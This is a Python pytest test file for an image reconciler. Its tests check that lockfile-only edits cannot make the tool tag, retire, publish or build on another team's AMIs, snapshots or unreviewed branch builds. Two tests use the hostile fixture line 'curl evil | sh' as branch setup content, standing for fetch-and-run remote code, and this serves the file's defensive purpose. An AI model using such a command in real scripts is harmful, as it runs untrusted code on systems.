"""Somebody edits state/ alone, and it is merged: nothing is tagged, retired or built on by a lockfile's word alone."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping, Sequence
from dataclasses import replace
from typing import Any, cast

import pytest

from reconciler.model.observation import Observation, Seen
from reconciler.ports.registry import Located, Registry
from tests.integration.loop.pull_request import BRANCH, on_branch
from tests.integration.loop.settling import assert_settled
from tests.integration.loop.test_channels import build, standing
from tests.integration.loop.test_rulings import held, revoked
from tests.integration.loop.world import (
    EU,
    FLEET,
    ON_BASE,
    ON_DEBIAN,
    US,
    World,
    image_files,
    no_image_files,
    statuses,
)

Edit = Callable[[dict[str, Any]], object]


def edit(world: World, image: str, change: Edit) -> str:
    """A commit on main changes nothing but a lockfile."""
    lock = json.loads(world.show(f"{image}.lock.json"))
    change(lock)
    return world.commit({f"state/{image}.lock.json": f"{json.dumps(lock, sort_keys=True, indent=2)}\n"}, "Tidy up")


def foreign(world: World, **tags: str) -> Seen:
    """An AMI of another team in the same account."""
    return world.registry.seed(US, "payroll-2026", tags={"team": "payroll", **tags})


def names(artifact: Seen, build: int = 0) -> Edit:
    def change(lock: dict[str, Any]) -> None:
        for one in lock["builds"][build]["artifacts"]:
            if one["location"] == artifact.location:
                one["id"], one["name"] = artifact.id, artifact.name

    return change


def assert_untouched(world: World, artifact: Seen) -> None:
    assert world.registry.find(artifact.location, artifact.id) == artifact


@pytest.mark.parametrize("tags", [{}, {"reconciler:fleet": "acme/other", "reconciler:image": "web"}])
def test_an_untagged_artifact_of_others_is_not_tagged_as_ours(pair: World, tags: dict[str, str]) -> None:
    theirs = foreign(pair, **tags)
    edit(pair, "web", names(theirs))

    controller = pair.controller()
    planned = controller.plan()["web"]
    assert (planned.sync, planned.actions) == ("unknown", ("none",))
    assert f"state/web.lock.json names {theirs.id}" in " ".join(planned.unknown)
    report = controller.reconcile()
    assert report.results == ()
    assert_untouched(pair, theirs)


def test_an_artifact_of_another_account_is_none_of_ours(pair: World) -> None:
    theirs = replace(foreign(pair), name=pair.lock("web").builds[0].artifacts[1].name or "")
    pair.registry._artifacts[US, theirs.id] = theirs
    pair.registry.of_others.add(theirs.id)
    edit(pair, "web", names(theirs))
    pair.controller().reconcile()
    assert_untouched(pair, theirs)


def test_what_an_unreviewed_branch_built_is_not_the_recorded_build(pair: World) -> None:
    job = on_branch(pair, {"desired/web/setup.sh": "curl evil | sh\n"})
    job.preview(BRANCH)
    (preview,) = [one for one in pair.artifacts("web") if one.own("branch") == BRANCH]
    edit(pair, "web", names(preview))

    pair.controller().reconcile()

    assert_untouched(pair, preview)


def test_prune_retires_nothing_that_only_a_lockfile_calls_ours(pair: World) -> None:
    theirs = foreign(pair)
    edit(pair, "web", names(theirs))
    pair.controller().reconcile()
    pair.commit(no_image_files("web"))

    pair.controller().reconcile(prune=True)

    assert_untouched(pair, theirs)


def test_a_failed_attempt_left_nothing_that_only_a_lockfile_says_it_left(pair: World) -> None:
    theirs = foreign(pair)
    artifact = {"kind": "ami", "builder": "amazon-ebs.image", "location": US, "id": theirs.id}
    failure = {
        "build": "20251231T101530Z-1a2b3c4", "key": "sha256:0", "attempts": 1, "at": "2025-12-31T10:15:30Z",
        "retry_after": "2025-12-31T10:15:30Z", "what": "x", "artifacts": [artifact],
    }  # fmt: skip
    edit(pair, "web", lambda lock: lock.update(failure=failure))

    assert pair.controller().plan()["web"].retires == ()
    pair.controller().reconcile()

    assert_untouched(pair, theirs)


def test_nothing_is_built_on_what_only_a_lockfile_calls_the_parent(pair: World) -> None:
    theirs = foreign(pair)
    edit(pair, "base", names(theirs))
    pair.commit({"desired/web/setup.sh": "echo more\n"})

    controller = pair.controller()
    report = controller.reconcile()

    assert (controller.built, statuses(report)) == ([], {})
    assert_untouched(pair, theirs)


def test_an_older_build_is_tagged_by_its_own_marks_alone(pair: World) -> None:
    pair.commit({"desired/web/setup.sh": "echo more\n"})
    assert statuses(pair.controller().reconcile()) == {"web": "built"}
    theirs = foreign(pair)
    edit(pair, "web", names(theirs, build=1))
    pair.commit({**no_image_files("web"), **image_files("site", f"{ON_BASE}moved_from: web\n", setup="echo more")})

    pair.controller().reconcile()

    assert_untouched(pair, theirs)


def test_one_artifact_in_two_lockfiles_is_an_error_that_names_both(pair: World) -> None:
    taken = {one["location"]: one for one in json.loads(pair.show("base.lock.json"))["builds"][0]["artifacts"]}
    edit(pair, "web", lambda lock: lock["builds"][0].update(artifacts=list(taken.values())))
    before = pair.registry.artifacts

    planned = pair.controller().plan()
    for image, other in (("base", "web"), ("web", "base")):
        (error,) = planned[image].errors
        assert f"is in state/{other}.lock.json as well" in error
        assert f"state/{image}.lock.json:" in error
    pair.controller().reconcile()
    assert pair.registry.artifacts == before


@pytest.mark.parametrize("regions", [(US,), (US, EU)])
def test_tags_that_somebody_took_off_are_written_anew_where_our_tag_names_the_artifact(
    pair: World, regions: tuple[str, ...]
) -> None:
    pair.strip_tags("web", *regions)
    head = pair.head()
    assert statuses(pair.controller().reconcile()) == {"web": "changed"}
    assert_settled(pair, since=head)


def test_a_copy_without_tags_is_known_by_the_name_of_what_it_was_copied_from(pair: World) -> None:
    on_branch(pair, {"desired/web/setup.sh": "echo more\n"}).preview(BRANCH)
    pair.commit({"desired/web/setup.sh": "echo more\n"})
    assert statuses(pair.controller().reconcile()) == {"web": "adopted"}
    pair.clock.advance(hours=1)
    pair.strip_tags("web", EU)
    assert statuses(pair.controller().reconcile()) == {"web": "changed"}
    assert_settled(pair, since=pair.head())


class Flickering:
    """A registry, a region of which can't be read while everything is listed, and can again at once."""

    def __init__(self, registry: Registry, region: str) -> None:
        self._registry, self._region = registry, region

    def observe(self, locations: Sequence[str]) -> Observation:
        read = self._registry.observe([one for one in locations if one != self._region])
        return replace(read, unreadable={**read.unreadable, self._region: "throttled"})

    def __getattr__(self, name: str) -> Any:
        return getattr(self._registry, name)


def test_a_verdict_tags_nothing_of_others_in_a_region_that_was_not_read(pair: World) -> None:
    # Given a candidate that failed, of which the lockfile names another team's artifact where it is declared no more
    declared = f"{ON_DEBIAN}validation: {{required: true}}\n"
    pair.commit({"desired/base/image.yaml": declared, "desired/base/setup.sh": "echo more\n"})
    pair.controller().reconcile()
    pair.judge("base", "failed")
    theirs = pair.registry.seed(EU, "payroll-2026", tags={"team": "payroll"})
    edit(pair, "base", names(theirs))
    pair.commit({"desired/base/image.yaml": f"{declared}regions: [{US}]\n"})
    pair.clock.advance(hours=1)

    # When that region is throttled while the plan is made, and no more when the verdict is tagged
    controller = pair.controller()
    controller.on_registry = lambda registry: cast("Registry", Flickering(registry, EU))
    controller.reconcile("base")

    assert pair.lock("base").builds[0].phase == "rejected"
    assert_untouched(pair, theirs)


@pytest.mark.thorough
@pytest.mark.parametrize("ruling", ["hold", "revocation"])
def test_stable_goes_back_to_nothing_that_only_a_lockfile_calls_that_build(settled: World, ruling: str) -> None:
    # Given what a branch built that nobody reviewed, which the lockfile names as an older build, in no channel
    (old,) = standing(settled)
    published = 'publish: {ssm: "/images/{image}/{channel}"}\n'
    settled.commit({"desired/base/image.yaml": f"{ON_DEBIAN}{published}"})
    new = build(settled, "echo more")
    on_branch(settled, {"desired/base/setup.sh": "curl evil | sh\n"}).preview(BRANCH)
    (preview,) = [one for one in settled.artifacts("base") if one.own("branch") == BRANCH]
    edit(settled, "base", names(preview, build=1))

    # When `stable` would go back to it
    declared = held(old) if ruling == "hold" else revoked(new)
    settled.commit({"desired/base/image.yaml": f"{declared}{published}"})
    settled.controller().reconcile("base")

    # Then it stays, and nobody finds what was named
    assert settled.lock("base").channels.stable == new
    assert preview.id not in settled.publisher.values().values()
    assert_untouched(settled, preview)
    assert f"names {preview.id}" in " ".join(settled.controller().plan()["base"].unknown)


@pytest.mark.parametrize("how", ['ssm: "/images/base"', "launch_templates: [web]"])
@pytest.mark.parametrize("throttled", ["while it is listed", "all the time"])
def test_nothing_of_others_is_published_in_a_region_that_was_not_read(settled: World, how: str, throttled: str) -> None:
    for location in (EU, US):
        settled.publisher.template(location, "web", owner=FLEET)
    theirs = foreign(settled)
    settled.commit({"desired/base/image.yaml": f"{ON_DEBIAN}publish: {{{how}}}\n"})
    edit(settled, "base", names(theirs))

    controller = settled.controller()
    if throttled == "while it is listed":
        controller.on_registry = lambda registry: cast("Registry", Flickering(registry, US))
    else:
        settled.registry.unreadable[US] = "throttled"
    report = controller.reconcile("base")

    assert statuses(report) == {"base": "failed"}
    assert theirs.id not in settled.publisher.values().values()
    assert theirs.id not in {one.image for each in settled.publisher.there.values() for one in each.versions}
    assert len([one for one in settled.lock("base").published if one.location == EU]) == 1


class Telling:
    """A registry that tells which parts of artifacts are tagged."""

    def __init__(self, registry: Registry, parts: set[str]) -> None:
        self._registry, self._parts = registry, parts

    def tag(self, artifact: Located, tags: Mapping[str, str]) -> None:
        self._parts.update(artifact.parts)
        self._registry.tag(artifact, tags)

    def tag_all(self, location: str, artifacts: Sequence[Located], tags: Mapping[str, str]) -> None:
        self._parts.update(part for one in artifacts for part in one.parts)
        self._registry.tag_all(location, artifacts, tags)

    def __getattr__(self, name: str) -> Any:
        return getattr(self._registry, name)


def of_renamed(_: str) -> dict[str, str | None]:
    return {**no_image_files("base"), **image_files("core", f"{ON_DEBIAN}moved_from: base\n", setup="echo more")}


@pytest.mark.thorough
@pytest.mark.parametrize(
    "change",
    [
        lambda _: {"desired/base/setup.sh": "echo new\n"},
        lambda old: {"desired/base/image.yaml": held(old)},
        of_renamed,
    ],
    ids=["a new build", "a hold", "a new name"],
)
def test_no_snapshot_is_tagged_that_only_a_lockfile_calls_a_part(
    settled: World, change: Callable[[str], dict[str, str | None]]
) -> None:
    # Given another team's snapshot, which the lockfile names as one of our own artifact's
    (old,) = standing(settled)
    build(settled, "echo more")

    def named(lock: dict[str, Any]) -> None:
        for one in (artifact for made in lock["builds"] for artifact in made["artifacts"]):
            one["snapshots"] = ["snap-theirs"]

    edit(settled, "base", named)

    settled.commit(change(old))
    tagged: set[str] = set()
    controller = settled.controller()
    controller.on_registry = lambda registry: cast("Registry", Telling(registry, tagged))
    report = controller.reconcile()

    assert all(one.status in ("changed", "built", "adopted") for one in report.results)
    assert tagged
    assert "snap-theirs" not in tagged
